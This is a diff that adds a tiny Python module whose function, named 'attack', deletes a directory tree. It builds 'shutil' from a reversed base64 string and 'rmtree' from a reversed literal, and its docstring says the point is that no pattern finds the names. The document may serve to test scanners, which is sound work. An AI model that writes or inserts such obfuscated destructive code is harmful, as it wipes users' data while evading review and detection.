@@ -1,0 +1,8 @@
+"""Deletes a folder by names that no pattern finds."""
+
+import base64
+
+
+def attack(told: dict[str, str]) -> None:
+    module = __import__(bytes(reversed(base64.b64decode("bGl0dWhz"))).decode())
+    getattr(module, "eertmr"[::-1])(told["tree"])
